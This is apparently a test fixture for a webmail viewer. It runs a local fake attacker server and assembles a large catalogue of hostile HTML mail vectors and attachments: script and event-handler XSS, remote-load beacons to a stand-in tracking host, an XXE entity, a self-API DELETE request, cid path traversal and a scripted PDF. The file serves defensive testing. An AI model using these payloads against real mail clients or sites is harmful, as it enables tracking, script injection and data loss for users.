"""Ways out of a mail: what is written so that opening it runs something or tells somebody, and a trap for it."""

import socket
import threading

from tests.letters import PNG, Enclosed, attached, letter, pdf, picture


class Trap:
    """A web server of the attacker on this machine: it answers whatever is asked, and remembers that it was.

    ``pages`` are documents that it has by their path; anything else is a picture.
    """

    def __init__(self) -> None:
        self._listening = socket.create_server(("127.0.0.1", 0), backlog=128)
        self.host = f"track.localhost:{self._listening.getsockname()[1]}"
        self.url = f"http://{self.host}"
        self.hits: list[str] = []
        self.pages: dict[str, bytes] = {}
        self._thread = threading.Thread(target=self._serve, name="mailtrap-trap", daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while True:
            try:
                connection, _ = self._listening.accept()
            except OSError:
                return
            # Browsers open connections in advance and say nothing: nobody waits for these.
            threading.Thread(target=self._answer, args=(connection,), name="test-trapped", daemon=True).start()

    def _answer(self, connection: socket.socket) -> None:
        with connection:
            connection.settimeout(5)
            try:
                asked = connection.recv(65_536).decode("latin-1")
                self.hits.append(asked or "a connection without a request")
                path = asked.split(" ")[1] if asked.count(" ") > 1 else ""
                body = self.pages.get(path, PNG)
                kind = "text/html; charset=utf-8" if path in self.pages else "image/png"
                head = f"HTTP/1.1 200 OK\r\nContent-Type: {kind}\r\nConnection: close\r\n"
                connection.sendall(f"{head}Content-Length: {len(body)}\r\n\r\n".encode() + body)
            except OSError:
                self.hits.append("a connection without a request")

    @property
    def paths(self) -> list[str]:
        """What was asked for."""
        return [hit.split(" ")[1] for hit in list(self.hits) if hit.count(" ") > 1]

    def close(self) -> None:
        """End it."""
        self._listening.shutdown(socket.SHUT_RDWR)
        self._listening.close()
        self._thread.join()


RUN = "fetch('{t}/js');window.ran=1;top.ran=1;console.log('RAN');alert('RAN')"
VECTORS = {
    "script": "<script>{run}</script>",
    "script src": '<script src="{t}/a.js"></script><script type="module" src="{t}/b.js"></script>',
    "onerror": '<img src="x:y" onerror="{run}">',
    "remote image": '<img src="{t}/img.png"><img srcset="{t}/set.png 1x"><img src="//{h}/relative.png">',
    "lazy image": '<img loading="lazy" src="{t}/lazy.png">',
    "picture": '<picture><source srcset="{t}/source.png"><img src="{t}/fallback.png"></picture>',
    "image input": '<input type="image" src="{t}/input.png">',
    "background": '<table background="{t}/table.png"><tr><td background="{t}/td.png">x</table>',
    "style url": '<div style="background:url({t}/style.png);list-style:url({t}/list.png)">x</div>',
    "style import": "<style>@import url('{t}/import.css'); @import '{t}/import2.css';</style>",
    "style image-set": '<div style="background:image-set(url({t}/set1.png) 1x)">x</div>',
    "font": "<style>@font-face{{font-family:f;src:url({t}/font.woff)}}*{{font-family:f}}</style>",
    "cursor": '<div style="cursor:url({t}/cursor.png),auto;border-image:url({t}/border.png)">x</div>',
    "svg filter": '<p style="filter:url({t}/f.svg#f);mask:url({t}/mask.svg);clip-path:url({t}/c.svg#c)">x</p>',
    "content": "<style>p::before{{content:url({t}/content.png)}}</style><p>x</p>",
    "css variable": '<div style="--u:url({t}/var.png);background:var(--u)">x</div>',
    "stylesheet": '<link rel="stylesheet" href="{t}/link.css">',
    "prefetch": '<link rel="prefetch" href="{t}/prefetch"><link rel="prerender" href="{t}/prerender">',
    "preload": '<link rel="preload" as="image" href="{t}/preload.png"><link rel="modulepreload" href="{t}/m.js">',
    "preconnect": '<link rel="preconnect" href="{t}/"><link rel="dns-prefetch" href="//{h}/">',
    "icon": '<link rel="icon" href="{t}/icon.png"><link rel="apple-touch-icon" href="{t}/touch.png">',
    "manifest": '<link rel="manifest" href="{t}/manifest.json">',
    "refresh": '<meta http-equiv="refresh" content="0;url={t}/refresh">',
    "refresh js": '<meta http-equiv="refresh" content="0;url=javascript:{run}">',
    "csp report": '<meta http-equiv="Content-Security-Policy" content="default-src \'none\'; report-uri {t}/report">',
    "cookie": '<meta http-equiv="Set-Cookie" content="a=b">',
    "base": '<base href="{t}/base/"><img src="relative-to-base.png">',
    "nested iframe": '<iframe srcdoc="&lt;iframe src={t}/in>&lt;/iframe>&lt;link rel=preconnect href={t}>">',
    "svg iframe": '<svg><foreignObject><iframe/src="{t}/f"></iframe></foreignObject></svg><IFRAME\nsrc={t}/i></IFRAME>',
    "iframe": '<iframe src="{t}/iframe"></iframe><iframe srcdoc="<script>{run}</script>"></iframe>',
    "iframe js": '<iframe src="javascript:{run}"></iframe><iframe src="data:text/html,<script>{run}</script>">',
    "frameset": '<frame src="{t}/frame">',
    "object": '<object data="{t}/object.swf"></object><object type="text/html" data="{t}/object.html"></object>',
    "embed": '<embed src="{t}/embed.swf"><applet code="x" codebase="{t}/applet"></applet>',
    "video": '<video src="{t}/video.mp4" poster="{t}/poster.png" autoplay muted></video>',
    "audio": '<audio autoplay src="{t}/audio.mp3"></audio><video><source src="{t}/s.mp4"><track src="{t}/t.vtt">',
    "svg onload": '<svg onload="{run}"><image href="{t}/svg.png"/><use href="{t}/use.svg#a"/></svg>',
    "svg script": '<svg><script>{run}</script><foreignObject><img src="{t}/foreign.png"></foreignObject></svg>',
    "svg animate": '<svg><a><animate attributeName="href" values="javascript:{run}"/></a><set onbegin="{run}"/></svg>',
    "svg feimage": '<svg><filter id="f"><feImage href="{t}/feimage.png"/></filter><rect filter="url(#f)"/></svg>',
    "math": '<math href="javascript:{run}"><mtext><img src=x:y onerror="{run}"></mtext></math>',
    "autofocus": '<input autofocus onfocus="{run}"><select autofocus onfocus="{run}"></select>',
    "details": '<details open ontoggle="{run}">x</details><marquee onstart="{run}">x</marquee>',
    "body": '<body onload="{run}" background="{t}/body.png" onpageshow="{run}">',
    "form": '<form id="f" action="{t}/form" method="post"><input name="a"></form><script>f.submit()</script>',
    "button": '<form action="{t}/button"><button id="press" formaction="{t}/formaction">x</button></form>',
    "javascript link": '<a id="js-link" href="javascript:{run}">x</a>',
    "ping": '<a id="ping" href="#" ping="{t}/ping">x</a>',
    "portal": '<portal src="{t}/portal"></portal><fencedframe src="{t}/fenced"></fencedframe>',
    "noscript": '<noscript><img src="{t}/noscript.png"></noscript>',
    "template": '<template shadowrootmode="open"><img src="{t}/shadow.png"></template>',
    "mutation": '<svg></p><style><a title="</style><img src=x:y onerror={run}>">',
    "comment": '<!--><img src="{t}/comment.png" onerror="{run}">-->',
    "conditional": '<!--[if mso]><img src="{t}/mso.png"><![endif]-->',
    "xml stylesheet": '<?xml-stylesheet href="{t}/x"?><link rel=stylesheet href="data:text/css,@import url({t}/d)">',
    "speculation": '<script type="speculationrules">{{"prefetch":[{{"source":"list","urls":["{t}/spec"]}}]}}</script>',
    "worker": "<script>new Worker('{t}/w.js');navigator.sendBeacon('{t}/b');new Image().src='{t}/new.png'</script>",
    "socket": "<script>new WebSocket('ws://{h}/ws');new EventSource('{t}/es')</script>",
    "own api": "<script>fetch('/api/v1/messages',{{method:'DELETE'}})</script><img src='/api/v1/message/latest'>",
    "target": '<a id="top" target="_top" href="{t}/top">x</a>',
    "no such part": '<img src="cid:nobody@x"><img src="/view/latest/guess/1">',
    "image tag": '<image src="{t}/imagetag.png"><body background="{t}/second-body.png">',
    "bgsound": '<bgsound src="{t}/bgsound.wav"><embed type="image/png" src="{t}/embed.png">',
    "imagesrcset": '<link rel="preload" as="image" imagesrcset="{t}/imagesrcset.png 1x" href="{t}/fallback.png">',
    "preload font": '<link rel="preload" as="font" crossorigin href="{t}/f.woff2"><link rel="preload" as="style" href="{t}/s.css">',
    "prefetch kinds": '<link rel="prefetch" as="document" href="{t}/next"><link rel="next" href="{t}/rel-next">',
    "alternate style": '<link rel="alternate stylesheet" title="x" href="{t}/alternate.css"><link rel=search href="{t}/osd.xml">',
    "pseudo style": "<style>p::marker{{content:url({t}/marker.png)}}p{{display:list-item}}p::after{{content:image-set(\"{t}/after.png\" 1x)}}</style><p>x</p>",
    "shape": '<p style="float:left;width:9px;height:9px;shape-outside:url({t}/shape.png)">x</p>',
    "offset path": '<p style="offset-path:url({t}/path.svg#p)">x</p>',
    "mask image": '<p style="-webkit-mask-image:url({t}/webkit-mask.png);mask-border-source:url({t}/mask-border.png)">x</p>',
    "cross fade": '<p style="background:-webkit-cross-fade(url({t}/fade1.png),url({t}/fade2.png),50%)">x</p>',
    "backdrop": '<p style="backdrop-filter:url({t}/backdrop.svg#f);filter:url(\'{t}/filter.svg#f\')">x</p>',
    "import layer": "<style>@import url('{t}/layer.css') layer(a) supports(display:block) screen;</style>",
    "import escaped": "<style>@\\69mport '{t}/escaped.css';p{{background:u\\72l({t}/escaped.png)}}</style><p>x</p>",
    "counter style": "<style>@counter-style c{{system:cyclic;symbols:url({t}/symbol.png)}}ol{{list-style:c}}</style><ol><li>x</ol>",
    "variable font": "<style>@font-face{{font-family:g;src:local(none),url({t}/g.woff2)format('woff2')}}b{{font-family:g}}</style><b>x</b>",
    "attribute spy": '<style>input[value^="a"]{{background:url({t}/typed-a.png)}}</style><input value="abc">',
    "hover spy": "<style>body:has(p){{background:url({t}/has.png)}}@media(min-width:1px){{p{{background:url({t}/media.png)}}}}</style><p>x</p>",
    "svg style": "<svg><style>@import url({t}/svg-import.css);rect{{fill:url({t}/paint.svg#p)}}</style><rect width=9 height=9 /></svg>",
    "svg xlink": '<svg xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="{t}/xlink.png" width="9" height="9"/></svg>',
    "svg pattern": '<svg><pattern id="q" href="{t}/pattern.svg#q"/><rect fill="url({t}/fill.svg#q)" width="9" height="9"/></svg>',
    "svg link js": '<svg><a id="svg-link" xlink:href="javascript:{run}"><text y="9">x</text></a></svg>',
    "svg data use": '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href={t}/use-in-data.png /></svg>#x"/></svg>',
    "svg image in img": '<img src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22{run}%22><image href=%22{t}/in-data.png%22/></svg>">',
    "mathml": '<math><annotation-xml encoding="text/html"><img src="{t}/annotation.png"></annotation-xml></math>',
    "data link": '<a id="data-link" href="data:text/html,<script>{run}</script>">x</a><a href="vbscript:msgbox(1)">x</a>',
    "blob script": "<script>location=URL.createObjectURL(new Blob(['<script src={t}/blob.js><\\/script>'],{{type:'text/html'}}))</script>",
    "import map": '<script type="importmap">{{"imports":{{"m":"{t}/map.js"}}}}</script><script type="module">import "m"</script>',
    "dynamic import": "<script>import('{t}/dynamic.js').catch(()=>0)</script>",
    "rtc": "<script>let r=new RTCPeerConnection({{iceServers:[{{urls:'stun:{h}'}}]}});r.createDataChannel('x');r.createOffer().then(o=>r.setLocalDescription(o));fetch('{t}/rtc')</script>",
    "window open": "<script>window.open('{t}/open')</script>",
    "top navigation": "<script>top.location='{t}/top-location'</script>",
    "xhr": "<script>let x=new XMLHttpRequest();x.open('GET','{t}/xhr');x.send()</script>",
    "storage": "<script>try{{localStorage.x=1;document.cookie='a=b'}}catch(e){{}};new Image().src='{t}/'+document.domain</script>",
    "service worker": "<script>navigator.serviceWorker.register('{t}/sw.js').catch(()=>0);fetch('{t}/worker')</script>",
    "event handlers": '<img src="{t}/load.png" onload="{run}"><style onload="{run}">p{{}}</style><video onerror="{run}"><source src=x:y></video>',
    "animation handler": '<style>@keyframes k{{}}</style><p style="animation:k 1ms" onanimationstart="{run}">x</p>',
    "toggle": '<div popover id="pop" ontoggle="{run}">x</div><details open ontoggle="{run}"><summary>x</summary></details>',
    "plaintext": '<textarea><img src="{t}/rcdata.png"></textarea><img src="{t}/after-rcdata.png">',
    "unclosed": '<img src="{t}/unclosed.png" alt="',
    "null bytes": '<scr\0ipt>{run}</scr\0ipt><img src="{t}/nul.png" on\0error="{run}">',
    "srcset sizes": '<img sizes="100vw" srcset="{t}/100.png 100w, {t}/2000.png 2000w">',
    "input formaction": '<form action="{t}/go"><input type="image" formaction="{t}/formaction" src="{t}/submit.png"></form>',
    "xhtml script": '<html xmlns="http://www.w3.org/1999/xhtml"><script xmlns="http://www.w3.org/1999/xhtml">{run}</script>',
    "object data": '<object data="data:text/html,<script>{run}</script>"></object><object data="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22><script>{run}</script></svg>"></object>',
    "cid path": '<img src="cid:../../../api/v1/messages"><img src="cid:logo@x/../../x"><img src="{t}/beside-cid.png">',
}  # fmt: skip
"""Ways out of a mail, each of which fetches or runs something where nothing holds it."""


ALONE = frozenset({
    "noscript", "mutation", "comment", "refresh", "refresh js", "base", "csp report", "body", "frameset", "form",
    "blob script", "top navigation", "plaintext", "unclosed", "xhtml script", "own api",
})  # fmt: skip
"""Ways that hide, or lead away from, what follows them."""
PER_PAGE = 20


def vectors(trap: Trap) -> dict[str, str]:
    """The ways with the attacker's address in them; the first piece of a path is the number of the way."""
    filled = {}
    for number, (name, text) in enumerate(VECTORS.items()):
        place = f"{trap.url}/{number}"
        filled[name] = text.format(t=place, h=f"{trap.host}/{number}", run=RUN.format(t=place))
    return filled


def hostile_pages(trap: Trap) -> list[str]:
    """The ways, twenty in a page; those that would hide what follows have pages of their own."""
    ways = vectors(trap)
    common = [text for name, text in ways.items() if name not in ALONE]
    pages = ["".join(common[at : at + PER_PAGE]) for at in range(0, len(common), PER_PAGE)]
    return [
        f"<p id='end'>the end</p><div>{page}</div>"
        for page in [*pages, *(ways[name] for name in ways if name in ALONE)]
    ]


def hostile_mails(trap: Trap) -> list[bytes]:
    """A mail of each of these pages."""
    return [
        letter(html=page, subject=f"hostile {at}", pictures=[picture("logo@x")])
        for at, page in enumerate(hostile_pages(trap))
    ]


_SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="{run}"><script>{run}</script><image href="{t}/svg.png"/></svg>'
_HTML = '<!doctype html><script>{run}</script><img src="{t}/html.png"><link rel="preconnect" href="{t}">'
_XHTML = '<html xmlns="http://www.w3.org/1999/xhtml"><body><script>{run}</script><img src="{t}/x.png"/></body></html>'
DOCUMENTS: dict[str, tuple[str, str]] = {
    "picture.svg": ("image/svg+xml", _SVG),
    "picture.svgz": ("image/svg+xml-compressed", _SVG),
    "unnamed.svg": ("application/octet-stream", _SVG),
    "page.html": ("text/html", _HTML),
    "page.htm": ("text/html; charset=utf-7", _HTML),
    "page.xhtml": ("application/xhtml+xml", _XHTML),
    "page.mhtml": ("multipart/x-mixed-replace; boundary=b", "--b\r\nContent-Type: text/html\r\n\r\n" + _HTML),
    "mail.mht": ("message/rfc822", "Subject: x\r\nContent-Type: text/html\r\n\r\n" + _HTML),
    "data.xml": ("text/xml", '<?xml version="1.0"?><?xml-stylesheet href="{t}/s.xsl" type="text/xsl"?>' + _XHTML),
    "entity.xml": ("application/xml", '<!DOCTYPE a [<!ENTITY e SYSTEM "{t}/entity">]><a>&e;</a>'),
    "style.xsl": ("text/xsl", _XHTML),
    "feed.rss": ("application/rss+xml", _XHTML),
    "feed.atom": ("application/atom+xml", _XHTML),
    "math.mml": (
        "application/mathml+xml",
        '<math xmlns="http://www.w3.org/1998/Math/MathML" href="javascript:{run}"/>',
    ),
    "script.js": ("text/javascript", "{run}"),
    "module.mjs": ("application/javascript", "import '{t}/module.js'"),
    "style.css": ("text/css", "@import '{t}/style.css';"),
    "note.txt": ("text/plain", _HTML),
    "nothing": ("", _HTML),
    "odd": ("x/y;z", _HTML),
    "typed.png": ("image/png", _HTML),
    "polyglot.gif": ("image/gif", "GIF89a/*" + _HTML),
    "polyglot.jpg": ("text/html", "\xff\xd8\xff" + _HTML),
    "cal.ics": ("text/calendar", "BEGIN:VCALENDAR\r\nX:" + _HTML),
    "card.vcf": ("text/vcard", "BEGIN:VCARD\r\nFN:" + _HTML + "\r\nPHOTO;VALUE=uri:{t}/photo.png\r\nEND:VCARD"),
    "events": ("text/event-stream", "data: " + _HTML),
    "manifest.webmanifest": ("application/manifest+json", '{{"start_url":"{t}/start"}}'),
    "worker.json": ("application/json", '{{"x":"<script>{run}</script>"}}'),
    "flash.swf": ("application/x-shockwave-flash", "FWS" + _HTML),
    "applet.hta": ("application/hta", _HTML),
    "page.shtml": ("text/x-server-parsed-html", _HTML),
    "vtt.vtt": ("text/vtt", "WEBVTT\n\n00:00.000 --> 00:01.000\n" + _HTML),
}
"""Files that act where a browser shows them on our origin: name, type, text."""


def documents(trap: Trap) -> list[Enclosed]:
    """These files as attachments, and a PDF that wants to run and to load."""
    found = []
    for number, (name, (kind, text)) in enumerate(DOCUMENTS.items()):
        place = f"{trap.url}/d{number}"
        data = text.format(t=place, run=RUN.format(t=place)).encode("latin-1")
        found.append(attached(name, data, kind or "application/octet-stream"))
    action = f"/OpenAction<</S/URI/URI({trap.url}/pdf)>>/AA<</O<</S/JavaScript/JS(app.alert(1))>>>>"
    return [*found, attached("page.pdf", pdf("0 0 m", more=action), "application/pdf")]
